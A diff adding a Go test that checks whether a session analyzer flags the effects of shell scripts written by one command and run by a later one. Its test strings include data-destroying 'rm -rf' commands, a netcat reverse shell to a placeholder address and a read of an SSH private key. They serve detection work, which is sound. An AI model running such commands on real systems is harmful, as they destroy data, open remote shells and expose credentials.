@@ -76,3 +76,26 @@ func TestSessions(t *testing.T) {
 		t.Errorf("%d session secrets, want the bound %d", len(a.Effects), maxSessionSecrets)
 	}
 }
+
+// TestSessionsShellWrittenScripts: a script a shell command writes (here-document, echo) is
+// judged by its content when a later call of the session runs it.
+func TestSessionsShellWrittenScripts(t *testing.T) {
+	n := New(defaultCatalog(t), specOpts(t, Options{Workspace: "/home/user/project", Home: "/home/user"}))
+	ctx := context.Background()
+	tests := []struct{ write, run, want string }{
+		{"cat > s.sh <<'EOF'\nrm -rf /srv/data\nEOF", "bash s.sh", "delete /srv/data"},
+		{"echo 'nc 192.0.2.7 4444 -e /bin/sh' > t.sh && chmod +x t.sh", "./t.sh", "connect 192.0.2.7"},
+		{"tee u.py <<< 'import os; os.system(\"rm -rf /opt/app\")'", "python3 u.py", "delete /opt/app"},
+		{"printf '%s\\n' 'cat ~/.ssh/id_rsa' >> v.sh", "sh v.sh", "secret /home/user/.ssh/id_rsa"},
+	}
+	for _, tc := range tests {
+		ss := NewSessions(0)
+		w := n.Normalize("Bash", map[string]any{"command": tc.write}, "")
+		ss.Observe("s", w)
+		r := n.Normalize("Bash", map[string]any{"command": tc.run}, "")
+		ss.Annotate(ctx, n, "s", r)
+		if !hasEffect(r.Effects, tc.want) {
+			t.Errorf("%q then %q: effects %v, want %q (written %v)", tc.write, tc.run, effectStrings(r.Effects), tc.want, w.Written)
+		}
+	}
+}
